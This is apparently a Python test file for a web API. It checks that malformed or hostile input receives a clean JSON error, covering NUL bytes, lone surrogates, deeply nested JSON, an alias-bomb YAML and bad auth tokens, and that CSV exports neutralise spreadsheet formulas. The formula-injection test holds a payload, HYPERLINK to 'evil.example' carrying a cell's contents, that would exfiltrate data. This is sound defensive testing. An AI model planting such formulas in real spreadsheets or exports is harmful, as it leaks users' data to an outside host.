"""Hostile input gets a 4xx with a JSON message that names the problem — never a 500, an HTML page or a stored NUL.

Each case is one the Hardening review found answering 500 (or holding a worker) on main.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from tests.engine.test_yamlguard import billion_laughs
from tests.test_workspace_api import project  # noqa: F401  (a fixture)


def _problem(response, status: int) -> str:
    assert response.status_code == status, response.content[:300]
    assert response["Content-Type"].startswith("application/json")
    return response.json()["detail"]


def test_json_nested_thousands_deep_is_a_400_naming_the_depth(auth_api):
    body = "[" * 100_000 + "]" * 100_000
    response = auth_api.generic("POST", "/api/connectors/validate/", body, content_type="application/json")
    assert "more than 64 levels deep" in _problem(response, 400)


def test_a_body_over_the_limit_is_a_413_in_json(auth_api, settings):
    body = json.dumps({"yaml": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)})
    response = auth_api.generic("POST", "/api/connectors/validate/", body, content_type="application/json")
    assert "larger than" in _problem(response, 413)


@pytest.mark.parametrize(
    ("field", "value", "named"),
    [
        ("name", "shop\x00bot", "body.name contains a NUL"),
        ("name", "shop\ud800bot", "body.name contains a lone surrogate"),
        ("params", {"base_url": "https://bot.example.com\x00"}, "body.params.base_url contains a NUL"),
        (
            "params",
            {"base_url": "https://bot.example.com/\ud800"},
            "body.params.base_url contains a lone surrogate",
        ),
    ],
)
def test_nul_and_lone_surrogates_in_a_connector_are_refused_and_nothing_is_stored(
    auth_api, field, value, named
):
    body = {"name": "shop bot", "technology": "taskyto", "params": {"base_url": "https://bot.example.com"}}
    body[field] = value
    raw = json.dumps(
        body
    )  # json.dumps escapes the lone surrogate as \ud800, as a hostile client would send it
    response = auth_api.generic("POST", "/api/connectors/", raw, content_type="application/json")
    assert named in _problem(response, 400)
    assert auth_api.get("/api/connectors/").json()["count"] == 0


def test_non_object_params_on_validate_is_a_400(auth_api):
    response = auth_api.post(
        "/api/connectors/validate/", {"technology": "http", "params": [1, 2]}, format="json"
    )
    assert "JSON object" in _problem(response, 400)


def test_a_connector_alias_bomb_is_refused_quickly(auth_api):
    response = auth_api.post("/api/connectors/validate/", {"yaml": billion_laughs()}, format="json")
    assert response.status_code == 200
    assert response.json()["valid"] is False


def test_a_duplicate_personality_name_is_a_400_naming_it(auth_api, project):  # noqa: F811
    url = f"/api/projects/{project['id']}/personalities/"
    text = "name: night-owl\ncontext:\n  - You only chat late at night.\n"
    assert auth_api.post(url, {"text": text}, format="json").status_code == 201
    again = auth_api.post(url, {"text": text}, format="json")
    assert "already has a personality called 'night-owl'" in _problem(again, 400)


def test_a_nul_in_a_query_parameter_is_a_400(auth_api):
    assert "contains a NUL" in _problem(auth_api.get("/api/runs/?profile=%00"), 400)


@pytest.mark.parametrize("token", ["\u00e9t\u00e9-token", "abc\x00def"], ids=["latin-1", "nul"])
def test_a_token_that_is_not_utf_8_or_holds_a_nul_is_a_401_not_a_500(api, token):
    """knox decoded the Authorization header as UTF-8 unchecked: a Latin-1 byte was a 500 on every endpoint."""
    response = api.get("/api/projects/", HTTP_AUTHORIZATION=f"Token {token}")
    assert response.status_code == 401
    assert response.json()["detail"] == "Invalid token."


def test_an_unknown_api_route_is_a_json_404(auth_api):
    assert _problem(auth_api.get("/api/no-such-thing/"), 404)


def test_a_zip_entry_holding_a_nul_is_refused_and_nothing_is_imported(auth_api, project):  # noqa: F811
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("profiles/fine.yaml", "test_name: fine\n")
        archive.writestr("profiles/nul.yaml", "test_name: n\x00l\n")
    buffer.seek(0)
    buffer.name = "import.zip"
    response = auth_api.post(f"/api/projects/{project['id']}/import/", {"file": buffer}, format="multipart")
    assert "profiles/nul.yaml contains a NUL character" in _problem(response, 400)
    assert auth_api.get(f"/api/projects/{project['id']}/profiles/").json()["count"] == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_formulas_are_neutralised_in_every_csv_export(auth_api, start):
    from engine.conversation import ConversationRecord
    from runs.models import Conversation, RuleResult, Run
    from tests.factories import RunFactory

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1, "open")'
    sensei = RunFactory(owner=auth_api.user, kind=Run.Kind.SENSEI, status=Run.Status.SUCCEEDED)
    record = ConversationRecord(id="c0", profile=formula).model_dump(mode="json")
    Conversation.objects.create(run=sensei, profile=formula, index=0, record=record, turns=2)
    check = RunFactory(owner=auth_api.user, kind=Run.Kind.CHECK, status=Run.Status.SUCCEEDED)
    RuleResult.objects.create(run=check, name=formula, status="passed")
    for run in (sensei, check):
        text = auth_api.get(f"/api/runs/{run.pk}/export/csv/").content.decode()
        cells = next(csv.reader(io.StringIO(text.split("\n", 1)[1])))
        assert f"'{formula}" in cells, cells
        assert formula not in [cell for cell in cells if not cell.startswith("'")]


def test_numbers_stay_numbers_in_csv():
    from engine.spreadsheet import safe_cell

    assert safe_cell(-3.5) == -3.5
    assert safe_cell("-3.5") == "'-3.5"
    assert safe_cell("plain text") == "plain text"
